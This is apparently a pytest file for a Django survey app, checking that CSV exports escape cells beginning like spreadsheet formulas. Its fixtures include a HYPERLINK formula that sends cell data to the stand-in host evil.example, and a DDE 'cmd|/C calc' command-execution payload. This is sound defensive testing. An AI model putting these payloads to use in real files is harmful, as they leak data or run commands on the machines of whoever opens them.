"""CSV exports never hand a spreadsheet a formula to run: text beginning with =, +, -, @, tab or carriage
return is written with a leading apostrophe (issue 10 §4, the survey's raw answers)."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.test import Client

from junheng.io.csv_text import csv_text
from junheng.web.orgs.models import Role
from junheng.web.survey import services
from junheng.web.survey.models import Answer, Response, Survey
from tests.web.conftest import Tree

YEAR = 2025
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("满意", "满意"),
        ("学校 = 家", "学校 = 家"),
        (-5, -5),
    ],
)
def test_text_that_begins_like_a_formula_is_written_as_text(text: object, written: object) -> None:
    assert csv_text(text) == written


def test_the_survey_export_writes_a_formula_as_text(tree: Tree, users: dict[str, User]) -> None:
    office = users[Role.COUNTY_OFFICE]
    survey = services.create_survey(
        user=office, county_id=tree.county.pk, year=YEAR, title="示范县满意度调查", resident_population=300_000
    )
    services.edit_questions(user=office, survey_id=survey.pk, group="parents", texts=[HYPERLINK, "-1+1 是否满意"])
    services.set_status(user=office, survey_id=survey.pk, status=Survey.Status.OPEN)
    [token] = services.issue_links(user=office, survey_id=survey.pk, group="parents", count=1)
    questions = services.open_link(token=token).questions
    services.submit_answers(token=token, answers={q.pk: "满意" for q in questions})
    # An option stored by an older version or by hand: the export does not trust the choices.
    Answer.objects.filter(response__in=Response.objects.filter(survey=survey), question=questions[1]).update(
        option="@SUM(1)"
    )
    client = Client()
    client.force_login(users[Role.SUPERVISOR])
    content = client.get(f"/survey/{survey.pk}/export/").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    assert [(row[4], row[5]) for row in rows[1:]] == [("'" + HYPERLINK, "满意"), ("'-1+1 是否满意", "'@SUM(1)")]
